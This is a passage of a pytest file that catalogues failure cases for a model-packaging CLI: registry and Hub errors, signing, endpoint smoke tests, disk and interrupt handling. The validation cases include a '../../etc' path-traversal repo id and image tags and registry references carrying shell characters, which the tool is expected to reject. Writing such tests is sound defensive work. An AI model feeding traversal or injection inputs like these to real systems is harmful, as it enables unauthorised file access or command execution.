         check=lambda c: None if (c.tmp / "precious.txt").read_text() == "keep me" else pytest.fail("deleted")),
    Case("not-a-run", not_a_run, 2, ("{tmp}/somewhere", "not a packager run")),
    Case("output-dir-holds-another-run", out_dir_holds_another_run, 2, ("{tmp}/target", "already holds run 't'"),
         check=lambda c: None if read_manifest(c.tmp / "target").run == "t" else pytest.fail("overwritten")),
    Case("output-dir-holds-other-files", out_dir_holds_other_files, 2, ("{tmp}/target", "not a packager run"),
         absent=("target/manifest.json", "target/merged")),
    Case("export-before-merge", export_before_merge, 2, ("has no merged model", f"packager merge {{tmp}}/{COPY}"),
         absent=(f"{COPY}/export",)),
    Case("resume-without-checkpoint", resume_without_checkpoint, 1, ("--resume: no checkpoint",),
         absent=(f"{RUN}/train",)),
    Case("tampered-run-is-not-pushed", tampered_run_refuses_push, 1, ("modified: merged/model.safetensors",),
         check=nothing_recorded("push-oci-merged", COPY)),
    # engines, registries, the Hub
    Case("no-container-engine", no_engine, 1, ("docker or podman", "apt install podman"),
         absent=(f"{COPY}/containers/vllm-image.json",), check=nothing_recorded("image-vllm", COPY)),
    Case("engine-fails-mid-build", engine_fails_mid_build, 1, ("podman build of", "failed (exit 125)",
                                                               "no space left on device"),
         absent=(f"{COPY}/containers/vllm-image.json",), check=nothing_recorded("image-vllm", COPY)),
    Case("engine-hangs-mid-build", engine_hangs_mid_build, 1,
         ("build: `podman build` did not finish in 2 s and was stopped", "containers.timeout_s"),
         absent=(f"{COPY}/containers/vllm-image.json",), check=nothing_recorded("image-vllm", COPY)),
    Case("registry-down", registry_down, 1, ("cannot reach the registry 127.0.0.1:", "connection refused"),
         check=nothing_recorded("push-oci-merged", COPY)),
    Case("wrong-registry-credentials", wrong_registry_credentials, 1, ("refused the credentials",),
         check=lambda c: (nothing_recorded("push-oci-merged", COPY)(c), secret_not_echoed(c))),
    Case("registry-ref-with-shell-characters", bad_registry_ref, 2, ("not a registry reference",)),
    Case("hub-token-missing", hub_token_missing, 2, ("no Hugging Face token", "HF_TOKEN"),
         check=nothing_recorded("push-hub-adapter", COPY)),
    Case("signing-key-is-no-key", signing_key_is_no_key, 2, ("{tmp}/keys/signing-key.pem",
                                                             "model-signing cannot sign with this key"),
         absent=(f"{COPY}/signed", f"{COPY}/signatures/run.sig"), check=nothing_recorded("sign", COPY)),
    Case("hub-unreachable", hub_unreachable, 1, ("the Hub refused or could not be reached: ConnectError",
                                                 "Connection refused"),
         check=nothing_recorded("push-hub-adapter", COPY)),
    Case("hub-repo-id-traversal", hub_repo_traversal, 2, ("'../../etc'", "not a Hub repo id"),
         absent=(f"{COPY}/.packager/publish",)),
    Case("image-tag-with-shell-characters", image_tag_with_shell, 2, ("not a valid image reference",),
         absent=(f"{COPY}/containers",)),
    # endpoints
    Case("endpoint-never-ready", smoke_against(NeverReadyHandler, ready_timeout_s=2), 1,
         ("was not ready after 2 s", "503", "smoke.ready_timeout_s"),
         absent=(f"{COPY}/smoke",), check=nothing_recorded("smoke-vllm", COPY)),
    Case("endpoint-answers-200-with-garbage", smoke_against(GarbageForT), 1,
         ("golden answers", "served model name", "no stop-token text"), check=failed_smoke_recorded_as_failed()),
    Case("endpoint-never-emits-a-stop", smoke_against(NeverStopsHandler), 1,
         ("answers stop", "concurrent requests"), check=failed_smoke_recorded_as_failed()),
    Case("smoke-url-not-http", smoke_url_scheme, 2, ("must start with http:// or https://",)),
    # the machine
    Case("disk-full-during-export", disk_full_export, 1, ("no space left on device", "{tmp}/small-disk/t")),
    Case("second-train-on-a-live-run", second_train_on_a_live_run, 2,
         ("another packager process (pid ", "is working on this run"), check=first_training_finished_intact),
    Case("ctrl-c-during-training", ctrl_c_during_training, 130, ("train: interrupted", "checkpoint-", "--resume"),
         absent=(f"{RUN}/train",), check=interrupted_keeps_checkpoint),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_catalogue(case: Case, tmp_path, request, runner):
    ctx = Ctx(tmp_path, request)
    ctx.absent_extra = []
    made = case.make(ctx)
    if isinstance(made, Outcome):
        outcome = made
    else:
        result = runner.invoke(cli, made, env={"PACKAGER_DEBUG": "", **ctx.env})
        outcome = Outcome(result.exit_code, result.output)
    output = outcome.output
    assert outcome.exit_code == case.exit_code, output
    for fragment in case.message:
        assert fragment.format(tmp=tmp_path) in output, (fragment, output)
    assert "Traceback" not in output and "internal error" not in output, output
    for rel in case.absent:
        assert not (tmp_path / rel).exists(), f"{rel} exists after a failed {case.id}"
    for path in ctx.absent_extra:
        assert not path.exists(), f"{path} exists after a failed {case.id}"
    if case.check is not None:
        case.check(ctx)


def test_catalogue_is_large_and_distinct():
    assert len(CASES) >= 30 and len({c.id for c in CASES}) == len(CASES)


def test_the_traceback_appears_only_with_packager_debug(runner, tmp_path):
    run = tmp_path / "r"
    run.mkdir()
    (run / "manifest.json").write_text("{")
    quiet = runner.invoke(cli, ["verify", str(run)], env={"PACKAGER_DEBUG": ""})
    assert quiet.exit_code == 2 and "Traceback" not in quiet.output and "invalid JSON" in quiet.output
    loud = runner.invoke(cli, ["verify", str(run)], env={"PACKAGER_DEBUG": "1"})
    assert loud.exit_code == 2 and "Traceback" in loud.output and "ManifestError" in loud.output


def test_a_bug_under_the_hub_push_is_a_bug_not_a_refusal(run_copy):
    """Only the Hub's answers and the network are "the Hub refused"; an exception that says nothing still
    gives a message (its type), not an IndexError."""
    from packager.errors import StageError
    from packager.publish.hub import push_hub

    class Buggy:
        def create_repo(self, *args, **kwargs):
            raise TypeError("create_repo() got an unexpected keyword argument 'privat'")

    class Silent:
        def create_repo(self, *args, **kwargs):
            raise OSError()

    run = run_copy()
    with pytest.raises(TypeError, match="privat"):
        push_hub(run, repo_id="me/t-adapter", what="adapter", client_factory=Buggy)
    with pytest.raises(StageError, match="could not be reached: OSError: OSError$"):
        push_hub(run, repo_id="me/t-adapter", what="adapter", client_factory=Silent)
    assert "push-hub-adapter" not in read_manifest(run).stages
